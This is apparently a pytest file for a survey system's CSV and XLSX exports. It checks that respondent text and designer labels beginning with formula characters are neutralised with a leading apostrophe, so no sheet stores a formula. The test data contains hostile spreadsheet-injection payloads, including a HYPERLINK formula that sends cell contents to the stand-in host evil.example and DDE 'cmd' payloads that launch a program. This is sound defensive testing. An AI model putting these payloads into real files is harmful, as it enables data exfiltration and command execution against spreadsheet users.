"""Formula injection (issue 25, point 10): a respondent's text or a designer's label that begins
with = + - @, a tab or a carriage return reaches a CSV with a leading apostrophe, and every XLSX
writes strings as strings (no cell of any sheet holds a formula)."""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from analysis import Filter, banner_book
from analysis.exports import export_rows
from analysis.exports.cells import neutralise
from analysis.exports.workbook import tables_csv, write_book_xlsx
from survey.services.tabulation import source_for
from survey.extensions import db
from tests.analysis.exports.data import make_rich_campaign, rich_definition, store
from tests.helpers import make_campaign

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")", "=cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


def test_neutralise_prefixes_only_text_that_starts_a_formula():
    for text in ATTACKS:
        assert neutralise(text) == "'" + text
    for safe in ("Thuế, hải quan", "a=1", "", " =1", 42, -3, 1.5, None):
        assert neutralise(safe) == safe


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_row_level_csv_neutralises_respondent_text(app, tmp_path):
    with app.app_context():
        campaign = make_rich_campaign()
        for text in ATTACKS:
            store(campaign, {"level": 1, "q1": 1, "m": [9], "m.other": text, "y": text})
        db.session.commit()
        out = tmp_path / "rows.csv"
        export_rows(db.engine, rich_definition(), Filter(campaign_ids=(campaign.id,)), "csv",
                    out, include_text=True)
    rows = _csv_rows(out.read_bytes())
    header = rows[0]
    texts = [row[header.index("y")] for row in rows[1:]]
    for text in ATTACKS:
        assert "'" + text in texts, text
    # No cell of any column (the "other — specify" text too) starts a formula.
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    assert "Cần bảo vệ cán bộ dám nghĩ, dám làm" in texts  # ordinary text unchanged


def _formula_cells(path) -> list[str]:
    """Every <f> (formula) element in every sheet of an XLSX file."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                if "<f>" in xml or "<f " in xml:
                    found.append(name)
    return found


def _hostile_definition() -> dict:
    definition = rich_definition()
    definition["pages"][0]["items"][2]["label"] = {"vi": "=HYPERLINK(\"http://evil.example\")"}
    definition["pages"][0]["items"][2]["options"][0]["label"] = {"vi": "=1+1"}
    definition["pages"][0]["items"][0]["options"][1]["label"] = {"vi": "@SUM(1)"}
    return definition


def test_codebook_and_banner_book_xlsx_write_labels_as_strings(app, tmp_path):
    with app.app_context():
        campaign = make_campaign("doc-hai", _hostile_definition())
        for i in range(12):
            store(campaign, {"level": 1 + i % 2, "gender": 1 + i % 2, "q1": 1 + i % 3})
        db.session.commit()
        codebook = tmp_path / "codebook.xlsx"
        export_rows(db.engine, campaign.version.definition,
                    Filter(campaign_ids=(campaign.id,)), "codebook", codebook)
        book = banner_book(source_for(db.engine, campaign), ["level"], items=["q1"], k=5)
        book_path = tmp_path / "book.xlsx"
        write_book_xlsx(list(book.tables), book_path, title="=1+2")
        csv_bytes = tables_csv(list(book.tables))
    for path in (codebook, book_path):
        assert _formula_cells(path) == [], path
        values = [c.value for ws in openpyxl.load_workbook(path).worksheets
                  for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert any(v.startswith("=HYPERLINK") or v == "=1+1" for v in values), path
    rows = _csv_rows(csv_bytes)
    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
    assert any(cell == "'=1+1" for row in rows for cell in row)


@pytest.mark.parametrize("output", ["csv"])
def test_access_code_csv_neutralises_the_batch_label(app, output):
    from survey.campaigns.routes import codes_csv
    from survey.models import AccessCodeBatch

    with app.app_context():
        campaign = make_campaign()
        batch = AccessCodeBatch(campaign_id=campaign.id, label="=HYPERLINK(\"x\")", size=5)
        with app.test_request_context("/", base_url="https://khaosat.example.vn"):
            text = codes_csv(campaign, batch, ["AAAAA-BBBBB"])
    (row,) = _csv_rows(text.encode("utf-8"))[1:]
    assert row[3] == "'=HYPERLINK(\"x\")" and row[0] == "AAAAA-BBBBB"
